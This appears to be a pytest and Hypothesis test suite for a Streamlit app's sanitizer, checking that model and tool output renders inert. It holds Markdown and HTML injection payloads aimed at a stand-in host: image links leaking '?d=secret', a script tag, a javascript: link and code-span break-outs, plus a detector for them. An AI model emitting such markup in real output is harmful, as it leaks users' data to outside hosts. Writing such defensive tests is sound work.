"""What a model, a tool or an imported run writes is shown, never fetched, linked or run: ui.safe and every page.

A hostile run carries Markdown images, links, raw HTML, a script, Streamlit's own extensions and
code-span break-outs in every place a run holds text. Each page draws it under AppTest, and every
piece of Markdown the page emits (bodies, captions, alerts, headings, widget labels) is read the
way Streamlit's renderer reads it: outside its code spans and escapes, none of it may be live.
"""

from __future__ import annotations

import json
import re
import string
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from agentcore.compare import ColumnSpec, Comparison
from agentcore.messages import AssistantMessage, SystemMessage, ToolCall, ToolMessage, Usage, UserMessage
from agentcore.providers.base import WireExchange
from agentcore.run import Run, RunConfig
from agentcore.steps import StepRecord, ToolRun
from agentcore.store.runs import LAST_RUN_KEY, Store
from agentcore.store.runs import default_path as default_db
from ui import safe
from ui.page_state import CompareState
from ui.state import Session

EVIL = "evil.invalid"


def payload(tag: str) -> str:
    """Everything that would fetch, link, run or restyle, each address tagged with where it was put."""
    return (
        f"![x](http://{EVIL}/{tag}-img?d=secret) <img src=http://{EVIL}/{tag}-html> "
        f"<script>window.pwned = '{tag}'</script> [click](http://{EVIL}/{tag}-link) "
        f"<http://{EVIL}/{tag}-auto> www.{EVIL}/{tag}-www :red[SPOOF] :material/home: $LATEX$"
    )


def breakout(tag: str) -> str:
    """Text that ends the code span or the HTML element it is put in, then carries the payload."""
    return f"`</code>``{payload(tag)}`"


NAME = f"get{breakout('name')}"
CALL_1 = f"call_1{breakout('id')}"
CALL_2 = f"call_2{breakout('id2')}"
TABLE = f"\n\n| a | b |\n|---|---|\n| `x|![t](http://{EVIL}/cell-img)` | [c](http://{EVIL}/cell-link) |"


def hostile_run(*, pending: bool = False) -> Run:
    """A finished run (stopped by a failed call) with hostile text wherever a run holds text.

    `pending` ends it at the assistant's tool calls, so the playground shows them for a decision.
    """
    call_1 = ToolCall(id=CALL_1, name=NAME, arguments={"q": breakout("args")})
    call_2 = ToolCall(id=CALL_2, name=NAME, raw_arguments=breakout("raw"))
    messages = [
        SystemMessage(content=payload("system")),
        UserMessage(content=payload("user")),
        AssistantMessage(content=payload("answer") + TABLE, tool_calls=(call_1, call_2)),
        ToolMessage(tool_call_id=CALL_1, name=NAME, content=payload("result")),
        ToolMessage(tool_call_id=CALL_2, name=NAME, content=payload("tool-error"), is_error=True),
        AssistantMessage(content=payload("final")),
    ]
    wire = WireExchange(
        url=f"http://{EVIL}/wire?d=secret{breakout('url')}",
        request={"messages": [payload("request")]},
        status=200,
        response={"content": payload("response")},
    )
    runs = [
        ToolRun(tool_call_id=CALL_1, name=NAME, duration_ms=1.0, is_error=False),
        ToolRun(tool_call_id=CALL_2, name=NAME, duration_ms=1.0, is_error=True, error=payload("tool-run")),
    ]
    steps = [
        StepRecord(index=1, usage=Usage(input_tokens=40, output_tokens=9), message_count=2, tool_runs=runs, wire=wire),
        StepRecord(index=2, usage=Usage(input_tokens=90, output_tokens=7), message_count=5, wire=wire),
    ]
    config = RunConfig(provider="scripted", model=f"model{breakout('model')}", max_steps=4)
    if pending:
        return Run(
            id=f"pending{breakout('pending-id')}", title=payload("pending"), config=config, messages=messages[:3],
            steps=steps[:1],
        )  # fmt: skip
    return Run(
        id=f"run{breakout('run-id')}", title=payload("title"), config=config, messages=messages, steps=steps,
        stop_reason="error", error=payload("provider-error") + TABLE,
    )  # fmt: skip


# -- reading Markdown as Streamlit's renderer does --------------------------------------------


def live(md: str, *, keep_escapes: bool = False, code: str = " ") -> str:
    """The Markdown outside its code spans, with escaped characters blanked: what the renderer acts on.

    `keep_escapes` keeps escaped characters with their backslash; `code` is what a code span becomes.
    """
    out: list[str] = []
    i = 0
    while i < len(md):
        if md[i] == "\\" and md[i + 1 : i + 2] in string.punctuation:
            out.append(md[i : i + 2] if keep_escapes else " ")
            i += 2
        elif md[i] == "`":
            run = re.match(r"`+", md[i:])[0]  # type: ignore[index]
            closer = re.compile(rf"(?<!`){run}(?!`)").search(md, i + len(run))
            out.append(code if closer else run)
            i = closer.end() if closer else i + len(run)
        else:
            out.append(md[i])
            i += 1
    return "".join(out)


def labels(md: str) -> list[str]:
    """The labels of the page's own directives (`:gray[...]`), a code span in one shown as `\x01`.

    Streamlit reads a label's text again, so escapes in it do not hold: only the app's words may be there.
    """
    return re.findall(r"(?<!\\):[A-Za-z][\w-]*\[([^\]]*)", live(md, keep_escapes=True, code="\x01"))


def dangers(md: str) -> list[str]:
    """What in this Markdown would fetch, link, run or restyle: each finding names itself."""
    text = live(md)
    found = [
        f"{what}: {m[0]!r}"
        for what, pattern in (
            ("an address outside code", rf"{re.escape(EVIL)}"),
            ("HTML or an autolink", r"<[A-Za-z/!?]"),
            ("a link or an image", r"\]\(|\]\["),
            ("a directive", r":red\[SPOOF"),
            ("an icon or the logo", r":material[/_]home|:streamlit:"),
            ("LaTeX", r"\$LATEX\$"),
        )
        for m in re.finditer(pattern, text)
    ]
    found += [f"text from the run in a directive's label: {label!r}" for label in labels(md) if re.search(
        rf"[\x01\\]|{re.escape(EVIL)}|SPOOF|LATEX", label
    )]  # fmt: skip
    return found


MARKDOWN_FIELDS = ("body", "label", "help", "text", "placeholder")
PLAIN_TYPES = {"text", "code", "json", "html", "arrow_data_frame", "dataframe", "selectbox", "multiselect"}


def markdown_of(at: AppTest) -> Iterator[tuple[str, str]]:
    """(where, Markdown) for every piece of Markdown the page emits: bodies, alerts, headings, labels, help."""

    def walk(node: Any) -> Iterator[tuple[str, str]]:
        kind = getattr(node, "type", type(node).__name__)
        proto = getattr(node, "proto", None)
        if proto is not None and kind not in PLAIN_TYPES and hasattr(proto, "ListFields"):
            for field, value in proto.ListFields():
                if field.name in MARKDOWN_FIELDS and isinstance(value, str):
                    yield f"{kind}.{field.name}", value
                if kind == "radio" and field.name in ("options", "captions"):
                    yield from ((f"radio.{field.name}", v) for v in value)
        if kind in PLAIN_TYPES and hasattr(proto, "label"):
            yield f"{kind}.label", proto.label
        for child in getattr(node, "children", {}).values():
            yield from walk(child)

    yield from walk(at._tree)


def strings(data: Any) -> Iterator[str]:
    """Every string in JSON data."""
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict | list):
        for item in data.values() if isinstance(data, dict) else data:
            yield from strings(item)


def assert_charts_inert(at: AppTest) -> None:
    """The Plotly charts' texts hold no markup (Plotly reads `<a href>`), the DOT and the HTML no hostile text."""
    for node in at.get("plotly_chart"):
        marked = [text for text in strings(json.loads(node.proto.spec)) if re.search(r"<[A-Za-z/]", text)]
        assert not marked, marked
    for text in [node.proto.spec for node in at.get("graphviz_chart")] + [n.proto.body for n in at.get("html")]:
        assert EVIL not in text, text[:300]


def assert_inert(at: AppTest, *, shows: str) -> None:
    """No Markdown on the page is live, no chart or HTML holds hostile markup, and `shows` is on the page."""
    assert not at.exception, at.exception
    pieces = list(markdown_of(at))
    problems = [(where, md[:160], found) for where, md in pieces if (found := dangers(md))]
    assert not problems, "\n".join(map(str, problems))
    assert_charts_inert(at)
    assert any(shows in md for _, md in pieces), f"{shows!r} is not shown on the page"


# -- the helpers -------------------------------------------------------------------------------


def test_an_image_becomes_words_with_its_address_as_code():
    shown = safe.markdown(f"see ![chart](http://{EVIL}/c.png?d=1)")
    assert shown.strip() == rf"see \[image: chart `http://{EVIL}/c.png?d=1`\]"


def test_a_link_becomes_its_words_then_its_address_as_code():
    assert safe.markdown(f"[docs](https://{EVIL}/d).").strip() == f"docs (`https://{EVIL}/d`)."


def test_formatting_and_code_of_a_message_are_kept():
    text = "# Plan\n\n- **bold** and `a<b` here\n\n```python\nx = '[a](http://e.invalid)'\n```"
    shown = safe.markdown(text)
    assert "# Plan" in shown and "- **bold** and `a<b` here" in shown
    assert "```python\nx = '[a](http://e.invalid)'\n```" in shown
    assert not dangers(shown.replace("e.invalid", EVIL).replace("[a](", "[a]x("))


def test_a_code_span_holds_any_backticks_and_shows_them():
    for text in ["a`b", "``x``", "`", " lead", "trail ", "a\n\nb"]:
        span = safe.code(text)
        assert live(span).strip() == ""
        fence = re.match(r"`+", span)[0]  # type: ignore[index]
        inner = span[len(fence) : -len(fence)]
        shown = inner[1:-1] if inner.startswith(" ") and inner.endswith(" ") and inner.strip() else inner
        assert shown == text.replace("\n", " ")


def test_plain_text_keeps_what_needs_no_escape():
    assert safe.inline("genai-prices does not know scripted:research") == "genai-prices does not know scripted:research"
    assert safe.block("bad.json: messages[1].role: expected user") == "bad.json: messages[1].role: expected user"
    assert safe.inline("color:red and :red[x]") == r"color\:red and \:red[x\]"


def test_plotly_names_show_markup_as_text():
    assert safe.plotly(f'<a href="http://{EVIL}">x</a>') == f'&lt;a href="http://{EVIL}"&gt;x&lt;/a&gt;'


FRAGMENTS = [
    "![i](http://evil.invalid/i)", "[l](http://evil.invalid/l)", "<img src=x>", "<http://evil.invalid/a>",
    "http://evil.invalid/b", "www.evil.invalid", "me@evil.invalid", "`", "``", "```", "~~~", "\\", "[", "]",
    "(", ")", ":", ":red[SPOOF]", ":material/home:", "$LATEX$", "|", "\n", "\n\n", "    ", "# ", "> ", "- ",
    "1. ", "[r]: http://evil.invalid/r", "&#60;img&#62;", "a", " ", ":material_home:", ":streamlit:", "![x][r]",
    "[j](javascript:window.pwned=1)", "<!-- c -->", "&#58;material_home:", "\r\n", "{", "}",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=12))
def test_no_combination_of_hostile_fragments_comes_out_live(parts):
    text = "".join(parts)
    for shown in (safe.markdown(text), safe.inline(text), safe.block(text), f"**{safe.code(text)}** x"):
        assert not dangers(shown), (text, shown)


# -- the pages ---------------------------------------------------------------------------------


@pytest.fixture
def playground(open_app):
    """The app on the playground with `run` current; `before` may change the Session first."""

    def open_(run: Run, before=None, view: str = "Messages") -> AppTest:
        session = Session()
        session.add_run(run)
        session.sync_sidebar = False  # the run's provider is the scripted one: nothing to follow
        if before is not None:
            before(session)
        return open_app(session=session, view=view)

    return open_


def test_the_playground_shows_a_hostile_run_inert(playground):
    def notices(session: Session) -> None:
        session.notice = payload("notice")
        session.store_error = payload("store")

    shown = ""
    # only the open tab is drawn: each is checked, with a piece of hostile text it shows
    for view, piece in (("Messages", f"http://{EVIL}/answer-img?d=secret"), ("Steps", f"{EVIL}/url-img")):
        at = playground(hostile_run(), notices, view=view)
        assert_inert(at, shows=piece)
        shown += "\n".join(md for _, md in markdown_of(at))
    for tag in ("user", "final", "name", "id", "provider-error", "notice", "store", "url"):
        assert f"{EVIL}/{tag}-img" in shown, tag  # each place's text is there, as text


def test_the_pending_calls_and_the_editor_show_hostile_names_inert(playground):
    def edit(session: Session) -> None:
        session.editing = 2

    at = playground(hostile_run(pending=True), edit)
    assert at.radio(key=f"dec_{CALL_1}").value == "Approve"  # the calls wait for a decision
    assert any(NAME in t.label for t in at.text_area if t.label.startswith("Arguments of"))
    assert_inert(at, shows=f"{EVIL}/name-img")


def test_a_draft_with_a_broken_list_shows_its_problems_inert(playground):
    def draft(session: Session) -> None:
        run = session.run
        session.draft = [*run.messages, ToolMessage(tool_call_id=breakout("orphan"), name=NAME, content="x")]

    at = playground(hostile_run(), draft)
    assert any("orphan" in e.value for e in at.error)
    assert_inert(at, shows=f"{EVIL}/orphan-img")


@pytest.fixture
def library(open_app):
    """The runs page over a database holding the hostile run and a fork of it, the fork selected."""
    store = Store(default_db())
    run = hostile_run()
    fork = run.fork(1)
    for r in (run, fork, hostile_run(pending=True)):
        store.save_run(r)
    store.set_meta(LAST_RUN_KEY, fork.id)
    return run, fork, lambda: open_app("views/runs.py")


def test_the_runs_page_shows_a_hostile_run_its_fork_and_their_diff_inert(library):
    run, fork, page = library
    at = page()
    assert at.selectbox(key="runs_selected").value == fork.id
    assert at.selectbox(key=f"runs_diff_{fork.id}").value == run.id  # the parent is compared by default
    assert_inert(at, shows=f"{EVIL}/title-img")
    at.selectbox(key="runs_selected").set_value(run.id).run()
    assert_inert(at, shows=f"{EVIL}/run-id-img")


def test_the_runs_page_shows_an_import_and_a_refusal_with_hostile_names_inert(library):
    _, _, page = library
    at = page()
    body = {"messages": [{"role": "user", "content": payload("imported")}]}
    name = f"{breakout('file')}.json"
    at.file_uploader[0].set_value((name, json.dumps(body).encode(), "application/json")).run()
    assert any("Imported" in s.value for s in at.success)
    assert_inert(at, shows=f"{EVIL}/file-img")
    bad = [{"role": "user", "content": "x"}, {"role": breakout("role")}]
    at.file_uploader[0].set_value((f"bad{name}", json.dumps(bad).encode(), "application/json")).run()
    assert any("Refused" in e.value for e in at.error)
    assert_inert(at, shows=f"{EVIL}/role-img")


def test_the_cost_page_shows_a_hostile_run_and_file_name_inert(open_app):
    session = Session()
    session.add_run(hostile_run())
    at = open_app("views/cost.py", session=session)
    assert any("genai-prices does not know" in c.value for c in at.caption)
    assert_inert(at, shows=f"{EVIL}/model-img")
    upload = (f"{breakout('upload')}.json", b'{"format": "nope"}', "application/json")
    at.file_uploader(key="cost_upload").set_value(upload).run()
    assert_inert(at, shows=f"{EVIL}/upload-img")


def test_the_compare_columns_show_hostile_runs_inert(open_app):
    spec = ColumnSpec(provider="scripted", model="weather", label=f"col{breakout('label')}")
    comparison = Comparison("prompt", [spec, ColumnSpec(provider="scripted", model="weather")], max_steps=4)
    column = comparison.columns[0]
    column.run = hostile_run()
    column.crash = payload("crash")
    column.live_text = payload("live")
    at = open_app()
    at.session_state[CompareState.KEY] = CompareState(comparison=comparison)
    at.switch_page("views/compare.py").run()
    shown = "\n".join(md for _, md in markdown_of(at))
    for tag in ("final", "label", "crash", "live", "url"):
        assert f"{EVIL}/{tag}-img" in shown, tag
    assert_inert(at, shows=f"{EVIL}/answer-img")
